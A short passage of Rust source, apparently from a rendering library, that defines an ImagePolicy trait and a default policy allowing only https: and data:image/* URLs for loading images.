/// [`UrlPolicy`] (`RendererOptions::url_policy`), which decides every URL (opening, links,
/// media). A host with its own `ImagePolicy` keeps it with
/// `UrlPolicy::default().with_image_policy(its_policy)`.
pub trait ImagePolicy: Send + Sync {
    /// Whether the image at `url` may be loaded.
    fn allows(&self, url: &str) -> bool;
}

/// The default media rule of [`UrlPolicy`] as an [`ImagePolicy`]: `https:` and
/// `data:image/*` only.
#[derive(Clone, Copy, Debug, Default)]
pub struct DefaultImagePolicy;

impl ImagePolicy for DefaultImagePolicy {
    fn allows(&self, url: &str) -> bool {
        UrlPolicy::default().allows_media(url)
    }
}

impl ImagePolicy for UrlPolicy {
    fn allows(&self, url: &str) -> bool {
        self.allows_media(url)
    }
}
